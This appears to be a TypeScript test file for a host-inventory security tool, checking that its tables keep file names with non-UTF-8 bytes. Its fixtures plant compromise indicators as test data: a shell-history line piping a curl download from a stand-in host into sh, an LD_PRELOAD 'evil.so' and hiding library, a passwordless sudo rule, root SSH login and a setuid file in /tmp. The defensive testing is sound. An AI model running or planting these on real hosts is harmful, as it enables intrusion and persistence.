/**
 * Files whose names are not UTF-8: each table that lists folders keeps them (it reads them by
 * their bytes), instead of decoding the name to text whose U+FFFD names another, absent file.
 * The fixture root holds real files named with the bytes `b 0xff c`.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chownSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { decodeText, encodeText } from '../../src/agent/driver/bytes.js';
import { QueryContext } from '../../src/agent/inventory/context.js';
import { InventoryEngine } from '../../src/agent/inventory/engine.js';
import type { Row, TableSpec } from '../../src/agent/inventory/table.js';
import { sudoersTable } from '../../src/agent/inventory/tables/accounts.js';
import { containers } from '../../src/agent/inventory/tables/containers.js';
import { crontab } from '../../src/agent/inventory/tables/cron.js';
import { diskPath, fileText, shownText } from '../../src/agent/inventory/tables/host-names.js';
import { shellHistory } from '../../src/agent/inventory/tables/history.js';
import { jarPackages } from '../../src/agent/inventory/tables/packages-jar.js';
import { npmPackages } from '../../src/agent/inventory/tables/packages-npm.js';
import { pythonPackages } from '../../src/agent/inventory/tables/packages-python.js';
import { interfacesTable, listeningPortsTable } from '../../src/agent/inventory/tables/net.js';
import { processesTable } from '../../src/agent/inventory/tables/processes.js';
import { ldSoPreload } from '../../src/agent/inventory/tables/preload.js';
import { authorizedKeys, sshConfigs } from '../../src/agent/inventory/tables/ssh.js';
import { startupItems } from '../../src/agent/inventory/tables/startup.js';
import { systemdUnits } from '../../src/agent/inventory/tables/systemd.js';
import { suidBinariesTable } from '../../src/agent/inventory/tables/system.js';
import { manifest, zip } from '../fixtures/inventory/software/fixture.js';

/** The name's bytes: b, 0xff (never UTF-8), c. */
const BAD = Buffer.from([0x62, 0xff, 0x63]);
/** The name as the tables keep it: the raw byte as U+DCFF. */
const KEPT = 'b\udcffc';
/** The name as a row shows it. */
const SHOWN = 'b\ufffdc';

let root: string;

/** Writes a file at a host path of the root, where BAD stands for the `{bad}` parts. */
function put(hostPath: string, data: string | Buffer, mode = 0o644): void {
  const parts = hostPath.split('{bad}');
  const file = Buffer.concat([Buffer.from(`${root}/`), ...parts.flatMap((p, i) => (i === 0 ? [Buffer.from(p)] : [BAD, Buffer.from(p)]))]);
  mkdirSync(Buffer.from(path.dirname(file.toString('latin1')), 'latin1'), { recursive: true });
  writeFileSync(file, data, { mode });
}

before(() => {
  root = mkdtempSync(path.join(tmpdir(), 'hades-byte-names-'));
  put('etc/init.d/{bad}', '#!/bin/sh\n', 0o755);
  put('etc/profile.d/{bad}.sh', 'export LD_PRELOAD=/lib/evil.so\n');
  put('etc/cron.d/{bad}', '* * * * * root /bin/true\nthis line is broken\n');
  put('etc/cron.daily/{bad}', '#!/bin/sh\n', 0o755);
  put('etc/systemd/system/{bad}.service', '[Service]\nExecStart=/bin/true\n');
  mkdirSync(path.join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
  symlinkSync(Buffer.concat([Buffer.from('../'), BAD, Buffer.from('.service')]), Buffer.concat([Buffer.from(`${root}/etc/systemd/system/multi-user.target.wants/`), BAD, Buffer.from('.service')]));
  put('etc/systemd/system/{bad}.service.d/override.conf', '[Service]\nUser=nobody\n');
  put('usr/lib/systemd/system/real.service', '[Service]\nExecStart=/bin/true\n');
  put('usr/lib/systemd/system/{bad}/x', '');
  // A unit that is a link (absolute: taken under the root) whose target's name is not UTF-8: the target is read by its bytes.
  symlinkSync(Buffer.concat([Buffer.from('/usr/lib/systemd/system/'), BAD, Buffer.from('/x')]), path.join(root, 'etc/systemd/system/alias.service'));
  put(`var/lib/docker/containers/{bad}/config.v2.json`, JSON.stringify({ Name: '/web', State: { Running: false }, Config: { Image: 'nginx' } }));
  put('usr/lib/node_modules/{bad}/package.json', JSON.stringify({ version: '1.0.0' }));
  put('opt/{bad}/pyvenv.cfg', 'home = /usr/bin\n');
  put('opt/{bad}/lib/python3.11/site-packages/{bad}-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\nVersion: 1.0\n');
  put('srv/{bad}/{bad}.jar', zip([manifest({ 'Implementation-Title': 'thing', 'Implementation-Version': '2.0' })]));
  put('etc/sudoers', '#includedir /etc/sudoers.d\n');
  put('etc/sudoers.d/{bad}', 'mallory ALL=(ALL) NOPASSWD: ALL\n');
  put('etc/ssh/sshd_config', 'Include /etc/ssh/sshd_config.d/*.conf\n');
  put('etc/ssh/sshd_config.d/{bad}.conf', 'PermitRootLogin yes\n');
  put('tmp/x/{bad}', '#!/bin/sh\n', 0o4755);
  put('sys/class/net/{bad}/mtu', '1500\n');
  put('sys/class/net/{bad}/ifindex', '7\n');
  put('proc/net/if_inet6', Buffer.concat([Buffer.from('fe800000000000000000000000000001 07 40 20 80 '), BAD, Buffer.from('\n')]));
});

after(() => rmSync(root, { recursive: true, force: true }));

async function rowsOf(spec: TableSpec): Promise<{ rows: Row[]; context: QueryContext }> {
  const context = new QueryContext({ root });
  return { rows: await spec.generate(context.forTable(spec.name)), context };
}

describe('names that are not UTF-8: the shared decoding', () => {
  it('decodes a raw byte as U+DC00 + the byte and encodes it back to the same bytes; UTF-8 names stay strings', () => {
    for (const bytes of [BAD, Buffer.from([0xf0, 0x9f, 0x98]), Buffer.from('caf\u00e9 \u{1f600}'), Buffer.concat([Buffer.from('\u{1f600}'), Buffer.from([0xfe])]), Buffer.from([0xed, 0xb2, 0x80])]) {
      assert.deepEqual(encodeText(decodeText(bytes)), bytes);
    }
    assert.equal(decodeText(BAD), KEPT);
    assert.equal(diskPath('/etc/caf\u00e9'), '/etc/caf\u00e9');
    assert.deepEqual(diskPath(`/etc/${KEPT}`), Buffer.concat([Buffer.from('/etc/'), BAD]));
    assert.equal(shownText(`/etc/${KEPT}`), `/etc/${SHOWN}`);
  });
});

describe('names that are not UTF-8: each table keeps the file', () => {
  it('startup_items: an init script and a profile.d script, hashed by their bytes', async () => {
    const { rows } = await rowsOf(startupItems);
    const ours = rows.filter((r) => String(r['path']).includes(KEPT)).map((r) => [r['path'], r['type'], typeof r['sha256']]);
    assert.deepEqual(ours, [
      [`/etc/init.d/${KEPT}`, 'init.d', 'string'],
      [`/etc/profile.d/${KEPT}.sh`, 'shell_profile', 'string'],
    ]);
  });

  it('ld_so_preload: LD_PRELOAD set in a profile.d script so named', async () => {
    const { rows } = await rowsOf(ldSoPreload);
    assert.deepEqual(
      rows.map((r) => [r['path'], r['source']]),
      [['/lib/evil.so', `/etc/profile.d/${KEPT}.sh`]],
    );
  });

  it('crontab: a cron.d file and a cron.daily script; a warning on the file names it with U+FFFD', async () => {
    const { rows, context } = await rowsOf(crontab);
    assert.deepEqual(
      rows.map((r) => [r['path'], r['command']]),
      [
        [`/etc/cron.d/${KEPT}`, '/bin/true'],
        [`/etc/cron.daily/${KEPT}`, `/etc/cron.daily/${KEPT}`],
      ],
    );
    assert.deepEqual(
      context.warnings.map((w) => [w.code, w.path]),
      [['HADES_ERR_INVENTORY_MALFORMED', `/etc/cron.d/${SHOWN}`]],
    );
  });

  it('systemd_units: the unit file, its enabling link and drop-in, and a link whose target is so named', async () => {
    const { rows } = await rowsOf(systemdUnits);
    const unit = rows.find((r) => r['name'] === `${KEPT}.service`);
    assert.ok(unit, 'the unit is listed');
    assert.equal(unit['path'], `/etc/systemd/system/${KEPT}.service`);
    assert.equal(unit['enabled'], 1);
    assert.equal(unit['user'], 'nobody');
    assert.equal(unit['drop_ins'], `/etc/systemd/system/${KEPT}.service.d/override.conf`);
    const alias = rows.find((r) => r['name'] === 'alias.service');
    assert.equal(alias?.['symlink_target'], `/usr/lib/systemd/system/${KEPT}/x`);
    // The target (an empty file) was read by its bytes: empty means masked, not unreadable.
    assert.equal(alias?.['masked'], 1);
  });

  it('containers: a Docker container folder so named', async () => {
    const { rows } = await rowsOf(containers);
    assert.deepEqual(
      rows.map((r) => [r['id'], r['name'], r['path']]),
      [[KEPT, 'web', `/var/lib/docker/containers/${KEPT}/config.v2.json`]],
    );
  });

  it('npm_packages, python_packages, jar_packages: package folders, virtual environments and archives so named', async () => {
    const npm = (await rowsOf(npmPackages)).rows;
    assert.deepEqual(
      npm.map((r) => [r['name'], r['version'], r['path']]),
      [[KEPT, '1.0.0', `/usr/lib/node_modules/${KEPT}`]],
    );
    const python = (await rowsOf(pythonPackages)).rows;
    assert.deepEqual(
      python.map((r) => [r['name'], r['version'], r['path'], r['kind']]),
      [[KEPT, '1.0', `/opt/${KEPT}/lib/python3.11/site-packages/${KEPT}-1.0.dist-info`, 'venv']],
    );
    const jars = (await rowsOf(jarPackages)).rows;
    assert.deepEqual(
      jars.map((r) => [r['path'], r['version'], typeof r['sha256']]),
      [[`/srv/${KEPT}/${KEPT}.jar`, '2.0', 'string']],
    );
  });

  it('sudoers and ssh_configs: included files so named', async () => {
    const sudoers = (await rowsOf(sudoersTable)).rows;
    assert.deepEqual(
      sudoers.filter((r) => r['type'] === 'rule').map((r) => [r['file'], r['principal'], r['tags']]),
      [[`/etc/sudoers.d/${KEPT}`, 'mallory', 'NOPASSWD']],
    );
    const ssh = (await rowsOf(sshConfigs)).rows;
    assert.deepEqual(
      ssh.filter((r) => r['key'] === 'PermitRootLogin').map((r) => [r['value'], r['source']]),
      [['yes', `/etc/ssh/sshd_config.d/${KEPT}.conf:1`]],
    );
  });

  it('interfaces: /sys read by the bytes, joined to the /proc addresses given as text (one interface, not two)', async () => {
    const { rows } = await rowsOf(interfacesTable);
    assert.deepEqual(
      rows.map((r) => [r['name'], r['index'], r['mtu'], r['address']]),
      [[KEPT, 7, 1500, 'fe80::1']],
    );
  });

  it('suid_binaries: the setuid file, hashed by its bytes', async () => {
    const { rows, context } = await rowsOf(suidBinariesTable);
    assert.deepEqual(
      rows.map((r) => [r['path'], r['mode'], typeof r['sha256']]),
      [[`/tmp/x/${KEPT}`, '4755', 'string']],
    );
    assert.deepEqual(context.warnings, []);
  });

  it('a query shows the raw byte as U+FFFD (SQLite text is UTF-8)', async () => {
    const engine = new InventoryEngine([startupItems, suidBinariesTable], { root });
    try {
      const result = await engine.query("SELECT path FROM startup_items WHERE path LIKE '/etc/profile.d/%' UNION ALL SELECT path FROM suid_binaries");
      assert.deepEqual(result.rows, [[`/etc/profile.d/${SHOWN}.sh`], [`/tmp/x/${SHOWN}`]]);
    } finally {
      engine.close();
    }
  });
});

/**
 * Paths written in files: a home in /etc/passwd, a library in /etc/ld.so.preload, a sudoers
 * @include, an sshd_config Include and AuthorizedKeysFile. The files they name exist, under
 * names holding the byte 0xff; read as UTF-8 text, each path named another file, absent.
 */
describe('names that are not UTF-8, written in files: the files they name are read', () => {
  let named: string;
  const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMmerXkeBtZ6UjC+e9FggbS4OHmnYL4P26WFryz2ZWaP';

  /** Writes a file at a host path of `named`, with BAD for each `{bad}` in its path and its content. */
  function write(hostPath: string, data: string): void {
    const bytes = (text: string) => Buffer.concat(text.split('{bad}').flatMap((p, i) => (i === 0 ? [Buffer.from(p)] : [BAD, Buffer.from(p)])));
    const file = bytes(`${named}/${hostPath}`);
    mkdirSync(file.subarray(0, file.lastIndexOf(0x2f)), { recursive: true });
    writeFileSync(file, bytes(data));
  }

  before(() => {
    named = mkdtempSync(path.join(tmpdir(), 'hades-byte-paths-'));
    write('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nmallory:x:1001:1001::/home/{bad}:/bin/bash\n');
    write('home/{bad}/.bash_history', 'curl -s http://x.example/a | sh\n');
    // A history is its account's own file (root reads none it does not own for an account).
    if (process.getuid?.() === 0) {
      const file = Buffer.concat([Buffer.from(`${named}/home/`), BAD, Buffer.from('/.bash_history')]);
      chownSync(file, 1001, 1001);
    }
    write('home/{bad}/.ssh/authorized_keys', `${KEY} home\n`);
    write('etc/ld.so.preload', '/usr/lib/{bad}/libhide.so\n');
    write('usr/lib/{bad}/libhide.so', 'not really a library');
    write('etc/sudoers', '@include /etc/sudo-{bad}\n');
    write('etc/sudo-{bad}', 'mallory ALL=(ALL) NOPASSWD: ALL\n');
    write('etc/ssh/sshd_config', 'Include /etc/ssh/{bad}.conf\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys-{bad}/%u\n');
    write('etc/ssh/{bad}.conf', 'PermitRootLogin yes\n');
    write('etc/ssh/keys-{bad}/mallory', `${KEY} central\n`);
  });

  after(() => rmSync(named, { recursive: true, force: true }));

  async function collect(spec: TableSpec): Promise<{ rows: Row[]; warnings: QueryContext['warnings'] }> {
    const context = new QueryContext({ root: named });
    return { rows: await spec.generate(context.forTable(spec.name)), warnings: context.warnings };
  }

  it('decodes a file as names are, a whole UTF-8 file as it is (a byte order mark included)', () => {
    assert.equal(fileText(Buffer.concat([Buffer.from('/home/'), BAD, Buffer.from('\n')])), `/home/${KEPT}\n`);
    assert.equal(fileText(Buffer.from('\ufeffcaf\u00e9\n')), '\ufeffcaf\u00e9\n');
    // A byte order mark within text that is not UTF-8 stays too: the bytes encode back as they were.
    const mixed = Buffer.concat([BAD, Buffer.from('\ufeffx')]);
    assert.deepEqual(encodeText(fileText(mixed)), mixed);
  });

  it('shell_history: the history in a home named in /etc/passwd', async () => {
    const { rows, warnings } = await collect(shellHistory);
    assert.deepEqual(
      rows.map((r) => [r['user'], r['path'], r['command']]),
      [['mallory', `/home/${KEPT}/.bash_history`, 'curl -s http://x.example/a | sh']],
    );
    assert.deepEqual(warnings, []);
  });

  it('ld_so_preload: the library named in /etc/ld.so.preload exists and is hashed', async () => {
    const { rows, warnings } = await collect(ldSoPreload);
    assert.deepEqual(
      rows.map((r) => [r['path'], r['file_exists'], r['sha256'], r['source']]),
      [[`/usr/lib/${KEPT}/libhide.so`, 1, createHash('sha256').update('not really a library').digest('hex'), '/etc/ld.so.preload']],
    );
    assert.deepEqual(warnings, []);
  });

  it('sudoers: the file an @include names', async () => {
    const { rows } = await collect(sudoersTable);
    assert.deepEqual(
      rows.map((r) => [r['file'], r['type'], r['principal']]),
      [
        ['/etc/sudoers', 'include', null],
        [`/etc/sudo-${KEPT}`, 'rule', 'mallory'],
      ],
    );
  });

  it('ssh_configs and authorized_keys: an Include, the AuthorizedKeysFile it names and the keys in a home named in /etc/passwd', async () => {
    const settings = (await collect(sshConfigs)).rows;
    assert.deepEqual(
      settings.filter((r) => r['key'] === 'PermitRootLogin').map((r) => [r['value'], r['source']]),
      [['yes', `/etc/ssh/${KEPT}.conf:1`]],
    );
    const { rows, warnings } = await collect(authorizedKeys);
    assert.deepEqual(
      rows.map((r) => [r['user'], r['path'], r['comment']]),
      [
        ['mallory', `/home/${KEPT}/.ssh/authorized_keys`, 'home'],
        ['mallory', `/etc/ssh/keys-${KEPT}/mallory`, 'central'],
      ],
    );
    assert.deepEqual(warnings, []);
  });

  it('a query shows the raw byte as U+FFFD', async () => {
    const engine = new InventoryEngine([shellHistory, ldSoPreload], { root: named });
    try {
      const result = await engine.query('SELECT path FROM shell_history UNION ALL SELECT path FROM ld_so_preload WHERE file_exists = 1');
      assert.deepEqual(result.rows, [[`/home/${SHOWN}/.bash_history`], [`/usr/lib/${SHOWN}/libhide.so`]]);
    } finally {
      engine.close();
    }
  });
});

/**
 * What /proc says of a process, as the fixture's /proc holds it: the links exe and cwd point to
 * names that are not UTF-8, and so do its arguments and a unix socket's path in /proc/net/unix.
 * The name here holds a cut UTF-8 sequence (0xe2 0x82, a 3-byte character without its last
 * byte) as well as 0xff: read as UTF-8, the cut sequence became one U+FFFD, where every other
 * table shows one per byte, so the process's path did not join the same file elsewhere.
 */
describe('names that are not UTF-8, in /proc: a process shows the path the other tables show', () => {
  /** b, 0xe2 0x82 (cut), 0xff, c. */
  const CUT = Buffer.from([0x62, 0xe2, 0x82, 0xff, 0x63]);
  const CUT_KEPT = 'b\udce2\udc82\udcffc';
  const CUT_SHOWN = 'b\ufffd\ufffd\ufffdc';
  const bytes = (text: string) => Buffer.concat(text.split('{cut}').flatMap((p, i) => (i === 0 ? [Buffer.from(p)] : [CUT, Buffer.from(p)])));
  let host: string;

  before(() => {
    host = mkdtempSync(path.join(tmpdir(), 'hades-proc-names-'));
    const at = (hostPath: string) => Buffer.concat([Buffer.from(`${host}/`), bytes(hostPath)]);
    mkdirSync(at('opt/{cut}'), { recursive: true });
    writeFileSync(at('opt/{cut}/prog'), '#!/bin/sh\n', { mode: 0o4755 });
    mkdirSync(path.join(host, 'proc/4242'), { recursive: true });
    mkdirSync(path.join(host, 'proc/net'), { recursive: true });
    writeFileSync(path.join(host, 'proc/4242/stat'), Buffer.concat([Buffer.from('4242 (pro'), CUT, Buffer.from(') S 1 4242 4242 0 -1 0 0 0 0 0 1 2 0 0 20 0 1 0 100 0 0\n')]));
    writeFileSync(path.join(host, 'proc/4242/cmdline'), bytes('/opt/{cut}/prog\0--from\0/opt/{cut}\0'));
    symlinkSync(bytes('/opt/{cut}/prog'), path.join(host, 'proc/4242/exe'));
    symlinkSync(bytes('/opt/{cut}'), path.join(host, 'proc/4242/cwd'));
    writeFileSync(path.join(host, 'proc/net/unix'), Buffer.concat([Buffer.from('Num       RefCount Protocol Flags    Type St Inode Path\n0000000000000000: 00000002 00000000 00010000 0001 01 777 '), bytes('/run/{cut}.sock\n')]));
  });

  after(() => rmSync(host, { recursive: true, force: true }));

  it('processes: the executable and working folder links, the arguments and the name, byte for byte', async () => {
    const rows = await processesTable.generate(new QueryContext({ root: host }).forTable('processes'));
    assert.deepEqual(
      rows.map((r) => [r['pid'], r['name'], r['path'], r['exe_deleted'], r['cwd'], r['cmdline']]),
      [[4242, `pro${CUT_KEPT}`, `/opt/${CUT_KEPT}/prog`, 0, `/opt/${CUT_KEPT}`, `/opt/${CUT_KEPT}/prog --from /opt/${CUT_KEPT}`]],
    );
    assert.deepEqual(encodeText(String(rows[0]!['path'])), bytes('/opt/{cut}/prog'));
  });

  it('listening_ports: a unix socket path from /proc/net/unix, byte for byte', async () => {
    const rows = await listeningPortsTable.generate(new QueryContext({ root: host }).forTable('listening_ports'));
    assert.deepEqual(
      rows.map((r) => [r['family'], r['path']]),
      [['unix', `/run/${CUT_KEPT}.sock`]],
    );
  });

  it('a query joins the process to its setuid executable by path, shown with one U+FFFD per byte', async () => {
    const engine = new InventoryEngine([processesTable, suidBinariesTable], { root: host });
    try {
      const result = await engine.query('SELECT p.pid, p.path, p.cwd, s.mode FROM processes p JOIN suid_binaries s ON s.path = p.path');
      assert.deepEqual(result.rows, [[4242, `/opt/${CUT_SHOWN}/prog`, `/opt/${CUT_SHOWN}`, '4755']]);
    } finally {
      engine.close();
    }
  });
});
